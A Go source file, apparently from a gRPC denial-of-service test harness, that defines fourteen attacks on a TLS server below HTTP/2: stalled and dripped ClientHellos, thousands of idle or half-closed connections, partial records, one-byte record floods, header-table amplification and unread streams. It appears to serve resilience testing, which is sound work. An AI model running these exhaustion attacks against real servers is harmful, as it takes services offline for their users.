// SPDX-License-Identifier: Apache-2.0

package kinds

import (
	"net"
	"time"

	"google.golang.org/grpc/attack/internal/attacker"
	"google.golang.org/grpc/attack/internal/orders"
)

// Types of TLS records (RFC 8446, 5.1), as those begin that are sent below TLS.
const (
	tlsAlert       = "\x15"
	tlsHandshake   = "\x16"
	tlsApplication = "\x17"
)

// tlsKinds are attacks on a server with TLS, below HTTP/2.
var tlsKinds = []Kind{
	{
		Name: "server/tls/silent", Serve: secured,
		About:  "1,000 connections on which no handshake begins",
		Attack: bare(1000, func(net.Conn) error { return nil }),
	},
	{
		Name: "server/tls/hello-declared", Serve: secured, Short: true,
		About:  "1,000 connections with the first 9 bytes of a ClientHello of 64 KB",
		Attack: bare(1000, func(nc net.Conn) error { return say(nc, tlsHandshake+"\x03\x01\x40\x00\x01\x00\xff\x00") }),
	},
	{
		Name: "server/tls/hello-drip", Serve: secured, Time: 3 * time.Second,
		About: "a ClientHello of 16 KB byte by byte, one every 150 ms, on 1,000 connections",
		Attack: func(a *attacker.Attacker) error {
			return a.Bare(1000, func(nc net.Conn) error {
				return drip(a, nc, tlsHandshake+"\x03\x01\x40\x00\x01\x00\x3f\xf0"+bytesOf(100))
			})
		},
	},
	{
		Name: "server/tls/hello-large", Serve: secured,
		About: "60 KB of a ClientHello of 64 KB on 500 connections",
		Attack: bare(500, func(nc net.Conn) error {
			record := tlsHandshake + "\x03\x01\x3c\x00"
			if err := say(nc, record+"\x01\x00\xff\xf0"+bytesOf(0x3c00-4)); err != nil {
				return err
			}
			for range 3 {
				if err := say(nc, record+bytesOf(0x3c00)); err != nil {
					return err
				}
			}
			return nil
		}),
	},
	{
		Name: "server/tls/handshakes", Serve: secured,
		About: "handshakes, again and again",
		Attack: func(a *attacker.Attacker) error {
			return a.Conns(4, func(c *attacker.Conn) error { return errAgain })
		},
	},
	{
		Name: "server/tls/garbage", Serve: secured,
		About:  "text instead of TLS, again and again",
		Attack: churnOf(8, "GET / HTTP/1.1\r\n\r\n"),
	},
	{
		Name: "server/tls/partial-record", Serve: secured, Short: true,
		About:  "the first byte of a record of 16 KB on 500 connections that work",
		Attack: hold(500, false, records(tlsApplication+"\x03\x03\x40\x10\x00")),
	},
	{
		Name: "server/tls/almost-record", Serve: secured,
		About:  "all but a byte of a record of 16 KB on 500 connections that work",
		Attack: hold(500, false, records(tlsApplication+"\x03\x03\x40\x10"+bytesOf(0x400f))),
	},
	{
		Name: "server/tls/half-closed", Serve: secured,
		About: "500 connections that say close_notify and stay",
		Attack: hold(500, false, func(c *attacker.Conn) error {
			if err := c.Flush(); err != nil {
				return err
			}
			return c.CloseWrite()
		}),
	},
	{
		Name: "server/tls/tiny-records", Serve: secured,
		About:  "PINGs in records of one byte each",
		Attack: flood(4, true, tinyRecords),
	},
	{
		Name: "server/tls/idle", Serve: secured,
		About:  "1,000 connections with proper handshakes and nothing behind",
		Attack: hold(1000, true, func(*attacker.Conn) error { return nil }),
	},
	{
		Name: "server/tls/amplification", Serve: orders.Serve{Security: orders.TLS, MaxStreams: 100},
		About:  "0.4 MB of one-byte references to a table entry of 4 KB, on 100 streams",
		Attack: hold(1, true, amplify(100)),
	},
	{
		Name: "server/tls/unread", Own: 1000 * poured, Serve: secured,
		About:  "20 connections of 50 streams that want answers without end, nobody reads",
		Attack: pouring(20, 50, 1<<31-1, false, nil),
	},
	{
		Name: "server/tls/alert", Serve: secured,
		About:  "an alert that is not encrypted, behind the handshake, again and again",
		Attack: flood(4, false, func(c *attacker.Conn) error { return first(records(tlsAlert+"\x03\x03\x00\x02\x01\x5a")(c), errAgain) }),
	},
}

var secured = orders.Serve{Security: orders.TLS}
